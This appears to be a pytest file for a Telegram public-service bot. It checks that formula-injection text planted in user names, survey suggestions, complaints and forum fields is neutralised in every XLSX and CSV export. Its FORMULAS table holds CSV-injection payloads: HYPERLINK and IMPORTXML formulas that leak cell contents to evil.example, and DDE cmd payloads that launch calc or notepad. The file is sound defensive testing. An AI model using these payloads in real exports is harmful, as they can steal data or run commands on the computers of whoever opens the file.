"""Issue 17, safe exports: a formula planted in every free-text field reaches every export as text.

Formulas (``=``, ``+``, ``-``, ``@``, tab, carriage return) are planted wherever a person can write
free text through the chat or the CLI: Telegram display names, SKM suggestions, complaint text,
named and anonymous forum input, the forum's title, topic, place, description, agenda and berita
acara. Then every export is produced — ``/ekspor skm`` in the chat, ``kanal export skm`` (XLSX, CSV)
and ``kanal export forum`` (XLSX, CSV) — and EVERY cell of every file is scanned: no formula cell
(openpyxl ``data_type 'f'``), no text starting like a formula; the planted texts are there, quoted.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from bot.domain.export_safety import FORMULA_STARTS, safe_cell, safe_row
from testkit.tg_chat import person, running, text_of
from tests.flows.test_complaints_e2e import file_complaint
from tests.jobs.test_jobs_e2e import kanal

UNIT = "DISDUKCAPIL-PST"
WIB = ZoneInfo("Asia/Jakarta")
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "name2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "saran": "+cmd|' /C notepad'!A0 antrean loket lama sekali",
    "saran2": "-2+3+cmd|' /C calc'!A0 petugas ramah",
    "complaint": "=1+1 jalan rusak parah di depan SDN 2 Sukamaju, lubangnya dalam sekali",
    "named": '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a") masukan bernama',
    "anon": '@HYPERLINK("http://evil.example") masukan anonim',
    "title": "=2*3 Forum Konsultasi Sampah",
    "topic": "+1+1 jadwal angkut",
    "place": "-1+1 Balai Desa",
    "description": "@A1 membahas sampah",
    "agenda": "=A1 agenda",
    "result": "=SUM(A1:A9) disepakati jadwal",
}


def test_the_helper_quotes_every_formula_start_and_leaves_numbers_alone():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_row([1, -2.5, None, "ok", "a=1", "'=quoted"]) == [1, -2.5, None, "ok", "a=1", "'=quoted"]


def dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def scan_xlsx(data: bytes, label: str) -> list[str]:
    """Every text cell of every sheet (and a failure for any formula or formula-like text)."""
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (label, ws.title, cell.coordinate, cell.value)
                assert not dangerous(cell.value), (label, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def scan_csv(data: bytes, label: str) -> list[str]:
    texts = []
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for field in row:
            assert not dangerous(field), (label, field)
            texts.append(field)
    return texts


def planted(texts: list[str], key: str) -> bool:
    """The planted text is there, as text (quoted), maybe cut or stripped by the bot."""
    head = FORMULAS[key].strip()[:12]
    return any(t.startswith("'" + head) for t in texts)


async def test_formulas_planted_everywhere_reach_every_export_as_text(settings, clock, tmp_path, monkeypatch):
    monkeypatch.setattr("bot.domain.clock.SystemClock.now", lambda self: clock.now())  # the CLI's "now" is the test's
    async with running(settings, clock=clock) as (tg, app):
        coord = await person(tg, app, 900, "Bu Koordinator", role="coordinator")
        a = await person(tg, app, 301, FORMULAS["name"])
        b = await person(tg, app, 302, FORMULAS["name2"])
        # ---- SKM with suggestions, from people with formula names --------------------------
        for who, saran in ((a, FORMULAS["saran"]), (b, FORMULAS["saran2"])):
            await who.send(f"/survei {UNIT}")
            await who.press(f"skm:svc:{UNIT}-01")
            await who.press("skm:p:all")
            for value in (3, 4, 3, 4, 3, 4, 3, 4, 3):
                out = await who.send(str(value))
            assert "saran" in text_of(out).lower()
            assert "Terima kasih" in text_of(await who.send(saran))
        await file_complaint(a, FORMULAS["complaint"])

        # ---- a forum whose every text is a formula; named and anonymous input ------------------
        rc, out = await kanal(
            app,
            *("forum", "create", "--opd", "DLH", "--title", FORMULAS["title"], "--topic", FORMULAS["topic"]),
            *("--at", "2026-12-05 09:00", "--place", FORMULAS["place"], "--capacity", "30"),
            *("--description", FORMULAS["description"], "--agenda", FORMULAS["agenda"]),
        )
        assert rc == 0, out
        for who, mode, key in ((a, "named", "named"), (b, "anon", "anon")):
            await who.press("/forum 1 daftar")
            await who.press("/forum 1 masukan")
            await who.press(f"forum:mode:{mode}")
            assert "tersimpan" in text_of(await who.send(FORMULAS[key]))
        clock.set(datetime.combine(date(2026, 12, 5), time(13, 0), tzinfo=WIB))
        rc, out = await kanal(app, "forum", "result", "1", "--text", FORMULAS["result"])
        assert rc == 0, out

        # ---- every export ---------------------------------------------------------------------
        out = await coord.send("/ekspor skm 2026-S2")
        docs = [m for m in out if m["method"] == "sendDocument"]
        assert docs, text_of(out)
        files: dict[str, list[str]] = {"chat skm.xlsx": scan_xlsx(docs[0]["media"]["data"], "chat")}
        for what, name in (("skm", "skm.xlsx"), ("skm", "skm.csv"), ("forum", "forum.xlsx"), ("forum", "forum.csv")):
            target = tmp_path / name
            args = ("export", "skm", "--period", "2026-S2") if what == "skm" else ("export", "forum", "1")
            rc, out = await kanal(app, *args, "-o", str(target))
            assert rc == 0, out
            scan = scan_xlsx if name.endswith(".xlsx") else scan_csv
            files[name] = scan(target.read_bytes(), name)

    # the planted texts did reach the files, as text
    for name, keys in {
        "chat skm.xlsx": ("saran", "saran2"),
        "skm.xlsx": ("saran", "saran2"),
        "forum.xlsx": ("name", "named", "anon", "title", "topic", "place", "result"),
        "forum.csv": ("name", "named", "anon"),
    }.items():
        for key in keys:
            if key == "title":
                assert any(FORMULAS["title"] in t for t in files[name]), name
                continue
            assert planted(files[name], key), (name, key, files[name])
